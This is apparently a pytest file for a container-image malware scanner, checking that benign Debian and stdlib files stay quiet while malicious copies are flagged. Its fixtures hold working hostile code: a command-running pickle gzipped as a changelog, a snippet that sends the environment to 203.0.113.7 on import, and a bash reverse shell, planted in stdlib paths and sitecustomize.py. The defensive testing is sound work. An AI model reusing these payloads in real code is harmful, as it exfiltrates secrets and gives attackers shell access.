"""Files of an image read by every layer: what is ordinary stays quiet, its malicious twin
does not."""

from __future__ import annotations

import gzip
import hashlib
from pathlib import Path

from outwork.core.findings import Finding
from outwork.engine.pipeline import ScanOptions, scan
from tests.imagebuild import Image, docker_archive

#: Debian's ``NEWS.Debian`` of dash: its opcodes fail at the first one (DICT, no MARK).
DASH_NEWS = (
    b"dash (0.5.5.1-2.1) unstable; urgency=low\n\n"
    b"  * The default system shell (/bin/sh) has been changed to dash for\n"
    b"    new installations.\n\n -- Gerrit Pape <pape@smarden.org>  Wed, 16 Jun 2010\n"
)
#: A protocol 0 pickle that runs a command, gzip'd under a documentation name.
EVIL = b"cos\nsystem\n(S'echo planted'\ntR."


def _findings(tmp_path: Path, files: dict[str, bytes]) -> list[Finding]:
    path = tmp_path / "image.tar"
    docker_archive(path, Image([files], config={"User": "app"}))
    return list(scan([str(path)], ScanOptions(jobs=1, cache_dir=None)).findings)


def test_gzipped_changelog_is_text_and_gzipped_pickle_is_found(tmp_path: Path) -> None:
    found = _findings(
        tmp_path,
        {
            "usr/share/doc/dash/NEWS.Debian.gz": gzip.compress(DASH_NEWS, mtime=0),
            "usr/share/doc/evil/NEWS.Debian.gz": gzip.compress(EVIL, mtime=0),
        },
    )
    models = [(f.rule.code, f.location.path.rsplit("!/", 2)[-2]) for f in found]
    models = [m for m in models if m[0].startswith("MDL")]
    assert ("MDL001", "usr/share/doc/evil/NEWS.Debian.gz") in models
    assert not [m for m in models if "dash" in m[1]]


#: A standard-library module's own dynamic code (zipimport reads code with marshal on import):
#: what the packages layer calls medium in a PyPI package.
STDLIB = b"import marshal\n\ndef _load(data):\n    return marshal.loads(data)\n\n_load(b'')\n"
#: The environment sent out on import: a critical in any package.
EXFIL = (
    b"import os\nimport urllib.request\n\n"
    b"data = '&'.join(f'{k}={v}' for k, v in os.environ.items()).encode()\n"
    b"urllib.request.urlopen('http://203.0.113.7/collect', data=data, timeout=3)\n"
)
REVERSE = b"import os\nos.system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')\n"


def _md5sums(files: dict[str, bytes]) -> bytes:
    return b"".join(
        hashlib.md5(data, usedforsecurity=False).hexdigest().encode()
        + b"  "
        + path.encode()
        + b"\n"
        for path, data in files.items()
    )


def _stdlib_image(tmp_path: Path, recorded: dict[str, bytes], later: dict[str, bytes]) -> Path:
    base: dict[str, bytes] = {
        "etc/os-release": b"ID=debian\nVERSION_ID=12\n",
        "var/lib/dpkg/status": b"Package: libpython3.11-stdlib\nStatus: install ok installed\n"
        b"Architecture: amd64\nVersion: 3.11.2-6\n",
        "var/lib/dpkg/info/libpython3.11-stdlib:amd64.md5sums": _md5sums(recorded),
        **recorded,
    }
    path = tmp_path / "stdlib.tar"
    docker_archive(path, Image([base, later] if later else [base], config={"User": "app"}))
    return path


def _by_path(found: list[Finding]) -> dict[str, set[str]]:
    out: dict[str, set[str]] = {}
    for f in found:
        out.setdefault(f.location.path.rsplit("!/", 1)[-1], set()).add(f.rule.code)
    return out


def test_the_distributions_own_stdlib_file_is_not_read_as_a_package(tmp_path: Path) -> None:
    copy = {"opt/app/zipimport.py": STDLIB}  # the same bytes where no package recorded them
    path = _stdlib_image(tmp_path, {"usr/lib/python3.11/zipimport.py": STDLIB}, copy)
    by_path = _by_path(list(scan([str(path)], ScanOptions(jobs=1, cache_dir=None)).findings))
    assert not {"PKG004", "IMG022"} & by_path.get("usr/lib/python3.11/zipimport.py", set())
    assert "PKG004" in by_path["opt/app/zipimport.py"]


def test_its_malicious_twins_are_read_in_full(tmp_path: Path) -> None:
    """The same path edited in a later layer, a module no package recorded beside it, and a
    recorded file whose record the attacker wrote too (the images layer reads every file)."""
    recorded = {
        "usr/lib/python3.11/zipimport.py": STDLIB,
        "usr/lib/python3.11/ftplib.py": REVERSE,  # record rewritten to match
    }
    later = {
        "usr/lib/python3.11/zipimport.py": STDLIB + EXFIL,
        "usr/lib/python3.11/sitecustomize.py": EXFIL,
    }
    path = _stdlib_image(tmp_path, recorded, later)
    by_path = _by_path(list(scan([str(path)], ScanOptions(jobs=1, cache_dir=None)).findings))
    zipimport = by_path["usr/lib/python3.11/zipimport.py"]
    assert "IMG022" in zipimport and any(c.startswith("PKG") for c in zipimport)
    assert any(c.startswith("PKG") for c in by_path["usr/lib/python3.11/sitecustomize.py"])
    assert "IMG008" in by_path["usr/lib/python3.11/ftplib.py"]
